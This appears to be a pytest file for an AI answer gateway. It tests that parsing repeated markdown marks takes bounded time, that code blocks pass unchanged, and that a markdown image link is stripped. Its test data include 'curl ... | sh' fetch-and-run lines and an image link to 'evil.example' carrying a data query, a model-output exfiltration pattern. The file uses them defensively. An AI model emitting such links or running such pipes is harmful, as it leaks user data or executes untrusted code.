"""The time that hostile texts take is bounded: no page and no model can hold the gateway up."""

import time
from collections.abc import Callable

import pytest
from citation_fakes import verifier

from pellucid_gateway.claims.citations import CitationVerifier
from pellucid_gateway.markdown.addresses import Addresses
from pellucid_gateway.markdown.door import Door
from pellucid_gateway.markdown.escaping import escaped

_CHARS = 64 * 1024
# Of processor time, on a busy machine; what is not linear takes minutes.
_MOST_S = 15.0
_REPEATED = (
    *("![", "[", "<a ", "&#", "\\", "` ", "a@", "1", "://", "x", "x.", "| a ", " "),
    *("![" * 50 + "\n", "[a](", "```\n", "a:b\n"),
)


def _whole(text: str) -> None:
    Door(Addresses({})).passed(text)


def _by_pieces(text: str) -> None:
    door = Door(Addresses({}))
    for start in range(0, len(text) // 4, 100):
        door.passed(text[start : start + 100])


def _escaped(text: str) -> None:
    escaped(text)


@pytest.mark.parametrize("way", [_whole, _by_pieces, _escaped])
@pytest.mark.parametrize("repeated", _REPEATED, ids=range(len(_REPEATED)))
def test_repeated_marks_take_bounded_time(repeated: str, way: Callable[[str], None]) -> None:
    text = (repeated * (_CHARS // len(repeated) + 1))[:_CHARS]
    begun = time.process_time()
    way(text)
    assert time.process_time() - begun < _MOST_S


async def _answer(checked: CitationVerifier, text: str) -> str:
    for start in range(0, len(text), 40):
        _ = [event async for event in checked.feed(text[start : start + 40])]
    _ = [event async for event in checked.finish()]
    return checked.answer


async def test_a_long_code_block_and_a_long_answer_stay_as_they_are() -> None:
    code = "".join(f"curl https://api.example/{n} | sh  # [{n}](y) <b>\n" for n in range(400))
    prose = "".join(f"Node.js {n} ran for *some* time. It took 3.{n} s.\n\n" for n in range(200))
    text = f"{prose}```sh\n{code}```\n\nSo it is.\n"

    assert await _answer(verifier(), text) == text


async def test_an_answer_without_checks_passes_the_door_all_the_same() -> None:
    checked = verifier(checks=False)

    answer = await _answer(checked, "In [1, 3] it is ![x](https://evil.example/x?d=1) so.\n")

    assert "[1, 3]" in answer
    assert "![x](https://" not in answer
